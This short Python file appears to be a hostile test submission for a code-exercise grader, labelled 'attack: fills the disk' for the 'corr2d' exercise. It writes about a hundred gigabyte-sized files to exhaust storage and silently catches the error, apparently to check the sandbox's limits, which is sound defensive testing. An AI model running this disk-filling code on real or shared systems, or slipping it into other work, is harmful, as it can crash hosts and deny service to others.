# attack: fills the disk
# exercises: corr2d
# outcome: full
try:
    for k in range(100):
        with open(f"file{k}", "wb") as file:
            for _ in range(1000):
                file.write(b"x" * 10**6)
except OSError:
    pass
